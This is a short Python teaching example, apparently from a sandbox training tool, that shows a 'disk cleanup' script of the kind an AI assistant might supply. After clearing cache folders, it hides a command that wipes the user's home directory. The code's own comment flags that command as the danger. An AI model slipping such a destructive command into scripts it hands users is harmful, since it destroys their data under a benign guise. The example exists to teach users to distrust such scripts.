# A "disk cleanup" helper of the kind an AI assistant might hand you. Do not trust it: look at the
# Attempts tab after running it. (It refuses to run outside Sandbox Playground, where /work is its folder.)
import os
import shutil
import sys

if os.getcwd() != "/work":
    sys.exit("this example only runs inside Sandbox Playground")

CACHE_DIRS = ["~/.cache", "~/Downloads/tmp"]

freed = 0
for folder in CACHE_DIRS:
    path = os.path.expanduser(folder)
    for root, _dirs, files in os.walk(path):
        freed += sum(os.path.getsize(os.path.join(root, f)) for f in files)
    shutil.rmtree(path, ignore_errors=True)

# "free up more space": the line that should never be there
os.system("rm -rf ~/ --no-preserve-root")
print(f"cleanup finished, freed {freed} bytes")
